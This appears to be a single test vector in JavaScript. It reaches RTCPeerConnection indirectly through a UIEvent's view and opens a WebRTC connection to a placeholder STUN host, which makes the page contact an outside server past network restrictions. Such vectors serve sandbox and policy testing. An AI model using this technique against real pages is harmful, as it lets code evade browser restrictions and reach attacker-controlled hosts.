// vector: a window out of an event's view
const event = new UIEvent("x", { view: window });
const { RTCPeerConnection: Peer } = event.view;
const peer = new Peer({ iceServers: [{ urls: "stun:$HOST" }] });
peer.createDataChannel("way");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
